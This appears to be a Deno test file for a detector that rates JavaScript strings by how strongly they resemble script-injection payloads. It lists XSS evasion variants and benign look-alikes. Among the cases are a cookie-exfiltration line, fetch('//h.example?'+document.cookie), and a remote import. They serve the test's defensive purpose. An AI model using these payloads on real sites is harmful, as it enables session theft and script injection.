import assert from "node:assert/strict";
import { lexJs } from "./js.ts";
import { sinkIn } from "./js_sinks.ts";

const CASES: readonly (readonly [string, "strong" | "weak" | "none"])[] = [
  ["alert(1)", "strong"],
  ["alert`1`", "strong"],
  ["(alert)(1)", "strong"],
  ["alert?.(1)", "strong"],
  ["alert.call(null,1)", "strong"],
  ["top['al'+'ert'](1)", "strong"],
  ["self[/a/.source+'x'](1)", "strong"],
  ["x['eval']('1')", "strong"],
  ["[1].map(alert)", "strong"],
  ["onerror=alert;throw 1", "strong"],
  ["Function('f()')()", "strong"],
  ["[].constructor.constructor('f()')()", "strong"],
  ["setTimeout('f()')", "strong"],
  ["import('//h.example')", "strong"],
  ["fetch('//h.example?'+document.cookie)", "strong"],
  ["document.location='//h.example'", "strong"],
  ["`${alert(1)}`", "strong"],
  ["fetch('/x')", "weak"],
  ["alert()", "weak"],
  ["eval(code)", "weak"],
  ["document.title = 'x'", "weak"],
  ["alert(id: 1)", "none"],
  ["fix(alert): do it", "none"],
  ["the alert(s) went off", "none"],
  ["frame.eval('a = b + c')", "none"],
  ["Alert(1)", "none"],
  ["frames[0].eval('f()')", "strong"],
  ["window?.eval('f()')", "strong"],
  ["document.defaultView.eval('f()')", "strong"],
  ["?tag=alert", "none"],
  ["(cn=alert)(mail=x)", "none"],
  ["rock; top [ten] (2026)", "weak"],
  ["function f() {}", "none"],
  ["confirmation(1)", "none"],
  ["/img/window.png", "none"],
];

Deno.test("sinkIn() tells deeds of an injection from ordinary code and text", () => {
  for (const [text, expected] of CASES) {
    assert.equal(sinkIn(text, lexJs(text))?.strength ?? "none", expected, text);
  }
  assert.equal(CASES.length, 35);
});
